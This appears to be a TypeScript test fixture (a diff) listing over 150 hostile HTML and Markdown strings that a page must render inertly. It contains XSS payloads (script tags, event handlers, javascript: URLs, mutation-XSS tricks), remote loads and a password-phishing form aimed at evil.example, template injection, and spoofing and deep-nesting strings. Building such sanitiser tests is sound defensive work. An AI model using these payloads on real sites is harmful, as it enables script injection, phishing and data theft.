@@ -1,0 +1,193 @@
+/** Where hostile texts would load something from, or send something to. */
+export const EVIL = 'evil.example';
+
+/** What a script of a hostile text would do. */
+const RUN = 'window.pwned=1';
+
+/** In scripts, and where a browser runs scripts by itself. */
+const SCRIPTS = [
+  `<script>${RUN}</script>`,
+  `<ScRiPt src=//${EVIL}/x.js></sCrIpT>`,
+  `<script/x>${RUN}</script/y>`,
+  `<<script>${RUN}//<</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<script>/*`,
+  `</title><script>${RUN}</script>`,
+  `</textarea><script>${RUN}</script>`,
+  `</style><script>${RUN}</script>`,
+  `</bdi></h1></main><script>${RUN}</script>`,
+  `<!--><script>${RUN}</script-->`,
+  `<!--${'-'.repeat(3)}><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><script>${RUN}</script>`,
+  `<%3Cscript%3E${RUN}%3C/script%3E`,
+  `\ufeff<script>${RUN}</script>`,
+  `<\u0000script>${RUN}</script>`.replace('\u0000', '\u200b'),
+  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
+  `&lt;script&gt;${RUN}&lt;/script&gt;`,
+  `&#60;script&#62;${RUN}&#60;/script&#62;`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+];
+
+/** In attributes. */
+const HANDLERS = [
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror="${RUN}" `,
+  `<img src=\`x\` onerror=\`${RUN}\`>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src="x\u2028" onerror\u00a0=${RUN}>`,
+  `"><img src=x onerror=${RUN}>`,
+  `'><img src=x onerror=${RUN}>`,
+  `" autofocus onfocus=${RUN} x="`,
+  `' onmouseover='${RUN}`,
+  `<b onmouseover=${RUN}>over</b>`,
+  `<p style="animation:x" onanimationstart=${RUN}>p</p>`,
+  `<details open ontoggle=${RUN}>x</details>`,
+  `<body onload=${RUN}>`,
+  `<input autofocus onfocus=${RUN}>`,
+  `<select autofocus onfocus=${RUN}><option>x</select>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src=x onerror=${RUN}>`,
+  `<marquee onstart=${RUN}>x</marquee>`,
+  `<div contenteditable onblur=${RUN} tabindex=0 id=content class="skip card ours">x</div>`,
+  `<a href="x" title="&quot; onclick=${RUN} x=&quot;">x</a>`,
+  `<a title='"><img src=x onerror=${RUN}>' href=https://${EVIL}/>x</a>`,
+];
+
+/** In addresses. */
+const ADDRESSES = [
+  `<a href="javascript:${RUN}">x</a>`,
+  `<a href=" &#1; javascript:${RUN}">x</a>`,
+  `<a href="java\tscript:${RUN}">x</a>`,
+  `<a href="java&#x0A;script:${RUN}">x</a>`,
+  `<a href="&#106;&#97;vascript&colon;${RUN}">x</a>`,
+  `<a href="\u200bjavascript:${RUN}">x</a>`,
+  `<a href="JaVaScRiPt:${RUN}" target="_self">x</a>`,
+  `<a href="vbscript:${RUN}">x</a>`,
+  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">x</a>`,
+  `<a href="blob:https://${EVIL}/x">x</a>`,
+  `<a href="//${EVIL}/x" target="_blank" ping="https://${EVIL}/ping" rel="opener">x</a>`,
+  `<a href="https://desk.example@${EVIL}/">https://desk.example/</a>`,
+  `<a href="https://${EVIL}/" download="x.exe">x</a>`,
+  `[x](javascript:${RUN})`,
+  `[x](<java\u0000script:${RUN}>)`.replace('\u0000', '&#0;'),
+  `[x](JAVASCRIPT&colon;${RUN})`,
+  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
+  `![x](javascript:${RUN})`,
+  `![x](https://${EVIL}/markdown.png "t\\" onerror=\\"${RUN}")`,
+  `[x]: javascript:${RUN}\n\n[x]`,
+  `<javascript:${RUN}>`,
+  `<https://${EVIL}/" onclick="${RUN}>`,
+];
+
+/** What loads something by itself. */
+const LOADS = [
+  `<img src="https://${EVIL}/pixel.gif" width=1 height=1>`,
+  `<img srcset="//${EVIL}/a.png 1x, //${EVIL}/b.png 2x">`,
+  `<picture><source srcset="//${EVIL}/p.png"><img src=x></picture>`,
+  `<img src="http://${EVIL}/pixel.gif">`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
+  `<img src="cid:x" lowsrc="//${EVIL}/l.png" dynsrc="//${EVIL}/d.avi">`,
+  `<div style="background:url(//${EVIL}/css.png)">x</div>`,
+  `<p style="width:expression(${RUN});behavior:url(//${EVIL}/x.htc)">x</p>`,
+  `<style>@import "//${EVIL}/x.css"; body{background:url(//${EVIL}/b.png)}</style>`,
+  `<link rel=stylesheet href="//${EVIL}/x.css"><link rel=prefetch href="//${EVIL}/p">`,
+  `<link rel=dns-prefetch href="//${EVIL}"><link rel=preconnect href="//${EVIL}">`,
+  `<table background="//${EVIL}/t.png"><tr><td background="//${EVIL}/td.png">x</table>`,
+  `<body background="//${EVIL}/body.png">`,
+  `<video poster="//${EVIL}/v.png" src="//${EVIL}/v.mp4" autoplay></video>`,
+  `<audio src="//${EVIL}/a.mp3" autoplay></audio>`,
+  `<track src="//${EVIL}/t.vtt">`,
+  `<input type=image src="//${EVIL}/i.png">`,
+  `<bgsound src="//${EVIL}/b.wav">`,
+];
+
+/** What leads away, or asks for something. */
+const PAGES = [
+  `<meta http-equiv=refresh content="0;url=//${EVIL}/">`,
+  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
+  `<base href="//${EVIL}/" target="_top">`,
+  `<iframe src="//${EVIL}/"></iframe>`,
+  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
+  `<object data="//${EVIL}/o.swf"><embed src="//${EVIL}/e.swf"></object>`,
+  `<frameset><frame src="//${EVIL}/"></frameset>`,
+  `<portal src="//${EVIL}/"></portal>`,
+  `<form action="//${EVIL}/"><input name=password type=password><button>Sign in</button></form>`,
+  `</form><form action="//${EVIL}/"><button formaction="//${EVIL}/x" form=reply>Send</button>`,
+  `<button form="reply" formaction="//${EVIL}/">x</button>`,
+  `<input form="reply" name="message" value="x">`,
+  `<dialog open>Your session has ended</dialog>`,
+  `<div popover id=p>x</div><button popovertarget=p>x</button>`,
+  `<slot name=x></slot><template shadowrootmode=open><script>${RUN}</script></template>`,
+  `<x-drafts><script type=module>${RUN}</script></x-drafts>`,
+  `<turbo-stream action="replace" target="content"><template>gone</template></turbo-stream>`,
+  `<turbo-frame id=content src="//${EVIL}/"></turbo-frame>`,
+  `<a id=content name=body href="https://${EVIL}/">x</a><img name=getElementById>`,
+];
+
+/** What parsers see differently from what made it safe. */
+const MUTATIONS = [
+  `<svg onload=${RUN}>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
+  `<svg><image href="//${EVIL}/svg.png"/><style>@import '//${EVIL}/x.css'</style></svg>`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
+  `<svg><foreignObject><iframe src="//${EVIL}/"></iframe></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
+  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
+  `<math href="javascript:${RUN}">x</math>`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<template><img src=x onerror=${RUN}></template>`,
+  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
+  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
+  `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
+  `<plaintext><img src=x onerror=${RUN}>`,
+  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
+  `<option><style></option></select><b><img src=x onerror=${RUN}></style></option>`,
+  `<table><td><a><table><td><form><b></a></table><script>${RUN}</script>`,
+  `</div></article></main><article class="card ours" id="m1"><div class="who"><h2>Support</h2></div>Pay here</article>`,
+  `<details><summary></summary>hidden</details><img src="#file-1">`,
+  `<blockquote><blockquote><details><summary></summary>${'word '.repeat(80)}</blockquote></details>`,
+  `<p title="<details><summary></summary>">x</p>`,
+  `<a title="<img src=&quot;#file-1&quot;" href="https://${EVIL}/">x</a>`,
+  `> <script>${RUN}</script>\n> > <img src=x onerror=${RUN}>\n>\n> \`\`\`\n> </code><script>${RUN}</script>\n\nx`,
+  `\`\`\`"><img src=x onerror=${RUN}>\n<script>${RUN}</script>\n\`\`\``,
+  `| <script>${RUN}</script> | [x](javascript:${RUN}) |\n|---|---|\n| <img src=x onerror=${RUN}> | x |`,
+  `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%= ${RUN} %>{$smarty.version}`,
+];
+
+/** What misleads the eye, or takes long. */
+const SIGNS = [
+  `\u202egnp.exe \u2066\u2067\u2069 \u202dx`,
+  `${'\u202e'.repeat(500)}x`,
+  `a\u200b\u200c\u200d\u2060\ufeffb\u00ad`,
+  `line\u2028separator\u2029paragraph\u0085next`,
+  `Z${'\u0300\u0301\u0302'.repeat(100)}algo`,
+  `${'x'.repeat(10_000)}`,
+  `${'\u0645'.repeat(5_000)} \u05d0\u05d1 abc`,
+  `https://${EVIL}/${'a'.repeat(3_000)}`,
+  `${'<div>'.repeat(10_000)}deep`,
+  `${'<b><i>'.repeat(5_000)}deep`,
+  `${'<table><tr><td>'.repeat(3_000)}deep`,
+  `${'<blockquote>'.repeat(150)}${'word '.repeat(80)}${'</blockquote>'.repeat(150)}`,
+  `${'> '.repeat(2_000)}deep`,
+  `${'- '.repeat(500)}deep`,
+  `${'*a_'.repeat(2_000)}`,
+  `${'['.repeat(3_000)}x`,
+  `${'<'.repeat(5_000)}`,
+  `${'&'.repeat(5_000)}&#x110000;&#xD800;&#0;`,
+  `\u{1f468}\u200d\u{1f469}\u200d\u{1f467}${'\ufe0f'.repeat(50)}`,
+];
+
+/** Over 150 texts that a page must show without doing what they say, in HTML, Markdown and words. */
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...[...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...LOADS, ...PAGES],
+  ...[...MUTATIONS, ...SIGNS],
+];
